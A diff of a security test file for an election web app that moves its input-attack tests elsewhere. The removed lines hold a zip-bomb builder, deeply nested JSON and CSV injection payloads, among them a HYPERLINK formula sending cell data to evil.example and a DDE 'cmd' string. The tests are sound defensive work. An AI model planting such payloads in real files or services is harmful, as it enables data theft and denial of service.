@@ -1,80 +1,27 @@
 """The attacks of a hostile user against ``intikhab serve``, each named after what it tries, on
 SQLite and PostgreSQL: every one is refused with a coded 4xx (or a 503 to retry), or survived
-(docs/security.md, OWASP ASVS 4.0 level 2)."""
+(docs/security.md, OWASP ASVS 4.0 level 2).  Logins, sessions, accounts, headers, identifiers,
+observers and the database going away here; what enters (bodies, JSON, numbers, archives,
+bundles, CSV) in ``test_attacks_input.py``."""
 
 from __future__ import annotations
 
-import io
-import json
 import re
 import time
-import zipfile
-from collections.abc import Iterator
 from html.parser import HTMLParser
 from typing import Any
 
 import pytest
-from conftest import small_bundle
+from _attacks import GOOD, Clock, bearer, client, coded, logged_in_admin, login
 from fastapi.testclient import TestClient
 from sqlalchemy import Engine, create_engine, select, text
-from sqlalchemy.orm import Session, sessionmaker
+from sqlalchemy.orm import Session
 
 from intikhab.demo.users import DEMO_USERS
-from intikhab.law.errors import CATALOGUE
 from intikhab.services import sessions, users
-from intikhab.services.setup import load_bundle
-from intikhab.services.users import ensure_demo_accounts
 from intikhab.store.models import User
-from intikhab.web import create_app
 
-GOOD = "plume-Verte-1957"  # a password the policy accepts
-
-
-@pytest.fixture
-def client(engine: Engine, Sessions: sessionmaker[Session]) -> Iterator[TestClient]:
-    with Sessions.begin() as s:
-        load_bundle(s, small_bundle())
-        ensure_demo_accounts(s, DEMO_USERS)
-    app = create_app(engine.url.render_as_string(hide_password=False), secret="test",
-                     cache=False)
-    with TestClient(app) as c:
-        yield c
-    app.state.engine.dispose()
-
-
-class Clock:
-    """``time.time`` under the test's control (throttle delays, timeouts)."""
-
-    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
-        self.now = time.time()
-        monkeypatch.setattr(time, "time", lambda: self.now)
-
-
-def login(c: TestClient, user: str, password: str | None = None) -> Any:
-    return c.post("/api/v1/login", json={"user": user, "password": password or f"{user}-2021"})
-
-
-def bearer(c: TestClient, user: str, password: str | None = None) -> dict[str, str]:
-    r = login(c, user, password)
-    assert r.status_code == 200, r.text
-    return {"Authorization": f"Bearer {r.json()['token']}"}
-
-
-def coded(r: Any, status: int, code: str | None = None) -> dict[str, Any]:
-    assert r.status_code == status, (r.status_code, r.text[:500])
-    body: dict[str, Any] = r.json()
-    assert body["code"] in CATALOGUE and set(body["message"]) == {"ar", "fr", "en"}
-    if code is not None:
-        assert body["code"] == code, body
-    return body
-
-
-def minute(station: str, votes: dict[str, Any], **over: Any) -> dict[str, Any]:
-    n = sum(v for v in votes.values() if isinstance(v, int)) + 5
-    doc = {"station": station, "vote": "communal", "registered": 500, "signed": n,
-           "ballots": n, "void": 5, "contested": 0, "illegal": 0, "votes": votes}
-    return {"minute": {**doc, **over}, "accept_warnings": []}
-
+__all__ = ["client"]  # the fixture, from tests/_attacks.py
 
 # -- logins -----------------------------------------------------------------------------------
 
@@ -256,15 +203,6 @@ PAGES = ("/", "/login", "/search?q=x", "/council/C1", "/offences", "/calendar", 
          "/nowhere")
 
 
-def _logged_in_admin(c: TestClient) -> None:
-    page = c.get("/login").text
-    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page)
-    assert csrf is not None
-    r = c.post("/login", data={"user": "admin", "password": "admin-2021",
-                               "csrf_token": csrf.group(1)}, follow_redirects=False)
-    assert r.status_code == 303
-
-
 def test_security_headers_on_every_response_including_errors_and_static(
         client: TestClient) -> None:
     c = client
@@ -272,7 +210,7 @@ def test_security_headers_on_every_response_including_errors_and_static(
     answers += [c.get("/static/app.css"), c.get("/api/v1/openapi.json"),
                 c.get("/api/v1/me"), c.post("/api/v1/login", content=b"{"),
                 c.post("/api/v1/login", content=b"x" * (2 << 20))]
-    _logged_in_admin(c)
+    logged_in_admin(c)
     answers += [c.get(p, headers={"accept": "text/html"}) for p in PAGES]
     for r in answers:
         h = r.headers
@@ -308,7 +246,7 @@ class _Scripts(HTMLParser):
 def test_no_inline_script_in_any_page(client: TestClient) -> None:
     """The CSP forbids inline scripts: no page may rely on one (parsed, not grepped)."""
     c = client
-    _logged_in_admin(c)
+    logged_in_admin(c)
     pages = [*PAGES, "/minute/C1-S1/communal", "/ballot/C1"]
     for path in pages:
         r = c.get(path, headers={"accept": "text/html"})
@@ -327,159 +265,6 @@ def test_api_docs_have_no_external_url_and_serve_their_assets(client: TestClient
         assert client.get(asset).status_code == 200, asset
 
 
-# -- input limits -----------------------------------------------------------------------------
-
-
-def test_request_body_over_the_limit_413(client: TestClient) -> None:
-    body = coded(client.post("/api/v1/login", content=b"{" + b" " * (2 << 20) + b"}",
-                             headers={"content-type": "application/json"}), 413, "E-SEC-007")
-    assert "1048576" in body["message"]["en"]
-
-
-def test_deep_json_refused_everywhere(client: TestClient) -> None:
-    """JSON nested 100,000 deep used to be a 500 (RecursionError)."""
-    c = client
-    admin = bearer(c, "admin")
-    deep = "[" * 100_000 + "]" * 100_000
-    coded(c.post("/api/v1/login", content=deep, headers={"content-type": "application/json"}),
-          422, "E-SEC-008")
-    coded(c.post("/api/v1/setup/bundle", content='{"parties": ' + deep + "}",
-                 headers={**admin, "content-type": "application/json"}), 422, "E-SEC-008")
-    csrf = c.get("/api/v1/me", headers=admin).json()["csrf_token"]
-    _logged_in_admin(c)
-    csrf = c.get("/api/v1/me").json()["csrf_token"]
-    r = c.post("/admin/import", data={"csrf_token": csrf},
-               files={"bundle": ("b.json", ('{"parties": ' + deep + "}").encode(),
-                                 "application/json")})
-    coded(r, 422, "E-SEC-008")
-
-
-def test_big_numbers_refused_not_overflowing(client: TestClient) -> None:
-    """A 30-digit population: coded, never an OverflowError/500."""
-    c = client
-    admin = bearer(c, "admin")
-    bundle = {"regions": [{"id": "R9", "name": "R9", "population": 10**29}]}
-    coded(c.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422, "E-SEC-011")
-    bundle["regions"][0]["population"] = 10**15  # under JSON's limit, over the figure's
-    body = coded(c.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422, "E-IMP-001")
-    assert body["errors"][0]["field"] == "population"
-    coded(c.post("/api/v1/minutes", json=minute("D1-S1", {"PA:D1": 10**20}), headers=admin),
-          422)
-
-
-@pytest.mark.parametrize("bad", [True, "12", 12.0])
-def test_bool_and_string_counts_refused(client: TestClient, bad: Any) -> None:
-    clerk = bearer(client, "clerk1")
-    coded(client.post("/api/v1/minutes", json=minute("D1-S1", {"PA:D1": 100, "PB:D1": 50},
-                                                       registered=bad), headers=clerk),
-          422, "E-API-001")
-    coded(client.post("/api/v1/minutes", json=minute("D1-S1", {"PA:D1": bad, "PB:D1": 50}),
-                      headers=clerk), 422, "E-API-001")
-
-
-def test_duplicate_json_keys_refused(client: TestClient) -> None:
-    body = '{"user": "coord", "user": "admin", "password": "x"}'
-    coded(client.post("/api/v1/login", content=body,
-                      headers={"content-type": "application/json"}), 422, "E-SEC-010")
-
-
-def _bomb(size: int) -> bytes:
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z, \
-            z.open("parties.csv", "w", force_zip64=True) as f:
-        chunk = b"0" * (1 << 20)
-        for _ in range(size >> 20):
-            f.write(chunk)
-    return buf.getvalue()
-
-
-def test_zip_bomb_refused_before_inflating(client: TestClient) -> None:
-    """300 KB that inflate to 300 MB: refused from the archive's directory, in an instant."""
-    c = client
-    _logged_in_admin(c)
-    csrf = c.get("/api/v1/me").json()["csrf_token"]
-    bomb = _bomb(300 << 20)
-    assert len(bomb) < 1 << 20
-    t0 = time.perf_counter()
-    r = c.post("/admin/import", data={"csrf_token": csrf},
-               files={"bundle": ("b.zip", bomb, "application/zip")})
-    coded(r, 422, "E-SEC-013")
-    assert time.perf_counter() - t0 < 5
-    many = io.BytesIO()
-    with zipfile.ZipFile(many, "w") as z:
-        for i in range(100):
-            z.writestr(f"f{i}.csv", "id\n")
-    r = c.post("/admin/import", data={"csrf_token": csrf},
-               files={"bundle": ("m.zip", many.getvalue(), "application/zip")})
-    coded(r, 422, "E-SEC-012")
-
-
-def test_million_vote_keys_refused_quickly(client: TestClient) -> None:
-    """A minute with a million vote keys took 49 s: over the body limit (413); 20,000 keys
-    under it are over the key limit (E-SEC-009); the model allows 1,000."""
-    clerk = bearer(client, "clerk1")
-    t0 = time.perf_counter()
-    votes = {f"L{i}": 0 for i in range(1_000_000)}
-    coded(client.post("/api/v1/minutes", json=minute("D1-S1", votes), headers=clerk), 413,
-          "E-SEC-007")
-    votes = {f"L{i}": 0 for i in range(20_000)}
-    coded(client.post("/api/v1/minutes", json=minute("D1-S1", votes), headers=clerk), 422,
-          "E-SEC-009")
-    votes = {f"L{i}": 0 for i in range(2_000)}
-    coded(client.post("/api/v1/minutes", json=minute("D1-S1", votes), headers=clerk), 422,
-          "E-API-001")
-    assert time.perf_counter() - t0 < 20
-
-
-def test_junk_parties_bounded(client: TestClient, Sessions: Any) -> None:
-    """300,000 junk parties made every portal page render for 30 s: refused."""
-    bundle = {"parties": [{"id": f"P{i}", "name_ar": "x", "name_fr": "x"}
-                          for i in range(300_000)]}
-    admin = bearer(client, "admin")
-    t0 = time.perf_counter()
-    body = coded(client.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422,
-                 "E-IMP-001")
-    assert body["errors"][0]["code"] == "E-SEC-014"
-    assert time.perf_counter() - t0 < 20
-    with Sessions() as s:
-        assert s.execute(text("SELECT count(*) FROM party")).scalar() == 3
-
-
-def test_women_without_sex_and_future_birth_dates_refused(client: TestClient) -> None:
-    """The women's part (arts. 76, 143 of law 59.11 as amended) takes women only; nobody is
-    born tomorrow."""
-    admin = bearer(client, "admin")
-    bundle = small_bundle()
-    bundle = {"candidacies": [dict(c, constituency=c["constituency"], code=c["code"] + "X")
-                              for c in bundle["candidacies"][:1]]}
-    cand = bundle["candidacies"][0]["candidates"]
-    cand["women"][0].pop("sex")
-    cand["general"][0]["birth_date"] = "2999-01-01"
-    body = coded(client.post("/api/v1/setup/bundle", json=bundle, headers=admin), 422,
-                 "E-IMP-001")
-    assert {e["code"] for e in body["errors"]} >= {"E-SEC-016", "E-SEC-017"}
-
-
-def test_csv_injection_neutralised_round_trip(client: TestClient, Sessions: Any,
-                                              tmp_path: Any) -> None:
-    from intikhab.formats.bundle_csv import write_bundle_csv
-    from intikhab.services.setup import dump_bundle
-
-    admin = bearer(client, "admin")
-    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    parties = [{"id": "PX", "name_ar": evil, "name_fr": "+cmd|' /C calc'!A0"},
-               {"id": "PY", "name_ar": "@SUM(1)", "name_fr": "-2+3"}]
-    assert client.post("/api/v1/setup/bundle", json={"parties": parties},
-                       headers=admin).status_code == 200
-    with Sessions() as s:
-        write_bundle_csv(dump_bundle(s), tmp_path / "out")
-    text_out = (tmp_path / "out" / "parties.csv").read_text("utf-8")
-    for cell in (evil, "+cmd", "@SUM(1)", "-2+3"):
-        assert cell not in [c.strip('"') for line in text_out.splitlines()
-                            for c in line.split(",") if c.strip('"').startswith(cell[:3])]
-    assert "'=HYPERLINK" in text_out and "'@SUM(1)" in text_out and "'-2+3" in text_out
-
-
 # -- identifiers ------------------------------------------------------------------------------
 
 BAD_IDS = ("\u0430dmin", "coord\u200b", "../../x", "<b>x</b>", "Admin", "x", "ａdmin",
@@ -495,7 +280,7 @@ def test_cyrillic_zero_width_path_and_markup_ids_refused(client: TestClient, Ses
     r = c.post("/api/v1/users", json={"id": bad, "name": "n", "role": "clerk",
                                       "password": GOOD}, headers=admin)
     assert r.status_code == 422 and r.json()["code"] in ("E-SEC-006", "E-API-001")
-    _logged_in_admin(c)
+    logged_in_admin(c)
     csrf = c.get("/api/v1/me").json()["csrf_token"]
     r = c.post("/admin/users", data={"csrf_token": csrf, "id": bad, "name": "n",
                                      "role": "clerk", "password": GOOD})
@@ -582,16 +367,3 @@ def test_postgresql_backend_killed_mid_request_answers_503(
     monkeypatch.setattr(entry.queries, "stations", real)
     assert client.get("/api/v1/stations", headers=h).status_code == 200
     killer.dispose()
-
-
-def test_safe_json_loader_limits_named() -> None:
-    from intikhab.formats import safejson
-    from intikhab.law.errors import InputError
-
-    for doc, code in (("[" * 65 + "]" * 65, "E-SEC-008"),
-                      (json.dumps({f"k{i}": 1 for i in range(10_001)}), "E-SEC-009"),
-                      ('{"a": 1, "a": 2}', "E-SEC-010"), ("1" * 19, "E-SEC-011")):
-        with pytest.raises(InputError) as caught:
-            safejson.loads(doc)
-        assert caught.value.code == code
-    assert safejson.loads('{"s": "[[[[", "n": -12}') == {"s": "[[[[", "n": -12}
